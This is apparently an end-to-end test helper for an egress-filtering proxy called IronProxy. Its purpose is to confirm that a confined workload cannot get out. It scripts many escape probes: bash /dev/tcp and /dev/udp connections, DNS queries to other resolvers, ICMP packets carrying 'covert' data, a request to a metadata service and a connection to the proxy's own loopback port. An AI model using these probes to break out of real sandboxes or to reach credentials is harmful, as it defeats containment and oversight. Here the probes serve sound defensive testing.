using IronProxy.EndToEnd.Tests.Tools;

namespace IronProxy.EndToEnd.Tests.Deployments;

/// <summary>What a workload tries to get out, and what it should be able to do. Knows nothing of how it is held.</summary>
internal static class WorkloadAttack
{
    /// <summary>An attempt: what runs, and when its own result says that it got through although nothing arrived in the world.</summary>
    private sealed record Attempt(string Name, string Script, bool SuccessIsAHole = false);

    private static readonly string Ping = """
        python3 -c '
        import socket, sys
        address, family, protocol, kind = sys.argv[1], *((socket.AF_INET6, socket.IPPROTO_ICMPV6, 128) if ":" in sys.argv[1] else (socket.AF_INET, socket.IPPROTO_ICMP, 8))
        s = socket.socket(family, socket.SOCK_DGRAM, protocol)
        s.settimeout(0.5)
        s.sendto(bytes([kind, 0, 0, 0, 0, 1, 0, 1]) + b"covert", (address, 0))
        s.recv(100)
        ' ADDRESS
        """;

    /// <summary>Skips the test where a client is missing.</summary>
    public static void Require()
    {
        CommandLine.Require("bash", "bash");
        CommandLine.Require("dig", "bind9-dnsutils");
        CommandLine.Require("python3", "python3");
    }

    /// <summary>Everything that got out, a line each; empty when nothing did. All attempts run at once.</summary>
    /// <param name="host">The network that the workload is in.</param>
    /// <param name="world">What lies behind it.</param>
    /// <param name="user">The user that it runs as.</param>
    /// <param name="operatorsPort">A port of the proxy on loopback that is none of the workload's business.</param>
    public static async Task<IReadOnlyList<string>> RunAsync(NetworkNamespace host, OutsideWorld world, string user, int operatorsPort)
    {
        var before = world.Arrivals.Count;
        var answered = await Task.WhenAll(Attempts(operatorsPort).Select(async attempt =>
        {
            var (exit, _, _) = await host.RunAsync(user, "timeout", "3", "bash", "-c", attempt.Script);
            return attempt.SuccessIsAHole && exit == 0 ? attempt.Name : null;
        }));
        return [.. world.Arrivals.Skip(before).Select(a => "arrived: " + a), .. answered.OfType<string>().Select(n => "answered: " + n)];
    }

    private static IEnumerable<Attempt> Attempts(int operatorsPort)
    {
        foreach (var address in new[] { OutsideWorld.Address4, OutsideWorld.Address6 })
        {
            yield return new($"TCP to an odd port, {address}", Tcp(address, OutsideWorld.OddPort));
            yield return new($"SSH, {address}", Tcp(address, 22));
            yield return new($"TLS without a name, {address}", Tcp(address, 443));
            yield return new($"HTTP to an address, {address}", Tcp(address, 80));
            yield return new($"DNS over TLS, {address}", Tcp(address, 853));
            yield return new($"QUIC, {address}", Udp(address, 443));
            yield return new($"UDP to an odd port, {address}", Udp(address, OutsideWorld.OddPort));
            yield return new($"NTP, {address}", Udp(address, 123));
            yield return new($"another resolver over UDP, {address}", Dig(address, "+notcp"));
            yield return new($"another resolver over TCP, {address}", Dig(address, "+tcp"));
            yield return new($"ICMP echo, {address}", Ping.Replace("ADDRESS", address, StringComparison.Ordinal), SuccessIsAHole: true);
        }

        yield return new("the metadata service", Tcp(OutsideWorld.Metadata, 80));
        yield return new("the proxy's metrics", $"exec 3<>/dev/tcp/127.0.0.1/{operatorsPort}", SuccessIsAHole: true);
        yield return new("the proxy's metrics over IPv6", $"exec 3<>/dev/tcp/::1/{operatorsPort}", SuccessIsAHole: true);
    }

    private static string Tcp(string address, int port) => $"exec 3<>/dev/tcp/{address}/{port} && printf 'GET / HTTP/1.1\\r\\nHost: covert.test\\r\\n\\r\\n' >&3 && read -r -t 0.3 line <&3";

    private static string Udp(string address, int port) => $"echo covert > /dev/udp/{address}/{port}; sleep 0.05";

    private static string Dig(string address, string transport) => $"dig @{address} {transport} +tries=1 +time=1 covert.test A";
}
